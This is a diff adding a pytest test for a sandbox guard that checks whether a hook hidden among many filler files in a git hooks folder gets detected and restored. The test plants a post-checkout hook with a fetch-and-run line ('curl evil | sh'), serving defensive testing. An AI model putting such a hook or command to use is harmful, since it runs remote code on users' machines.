@@ -16,6 +16,7 @@ from pathlib import Path
 import pytest
 
 from echo_desk.sandbox import gitconfig, inventory, repositories
+from echo_desk.sandbox import guard as guard_module
 from echo_desk.sandbox.guard import Change, Guard, Planted
 
 
@@ -207,3 +208,18 @@ def test_a_folder_that_is_a_git_folder_itself_is_a_repository(tmp_path: Path) ->
     assert [(e.path, e.folder, e.bare) for e in found.entries] == [(str(tmp_path / "src"), True, True)]
     watched = {w.path for w in inventory.take(tmp_path, home=tmp_path / "home").watched}
     assert {str(tmp_path / "src" / part) for part in ("config", "hooks", "info")} <= watched
+
+
+def test_a_hooks_folder_filled_past_what_is_looked_at_is_put_back_whole(workspace: Path, tmp_path: Path) -> None:
+    """More entries than the guard looks at in one folder must not hide a hook among them."""
+    hooks = workspace / "vendor" / "lib" / ".git" / "hooks"
+
+    def fill() -> None:
+        for i in range(guard_module.MAX_TREE_ENTRIES + 10):
+            (hooks / f"f{i:05}").write_text("")
+        (hooks / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
+
+    found = _check(workspace, tmp_path, fill)
+    assert [(p.path, p.change, p.put_back) for p in found] == [("vendor/lib/.git/hooks", Change.CHANGED, True)]
+    assert sorted(p.name for p in hooks.iterdir() if not p.name.endswith(".sample")) == ["pre-commit"]
+    assert (Path(found[0].kept) / "post-checkout").exists()
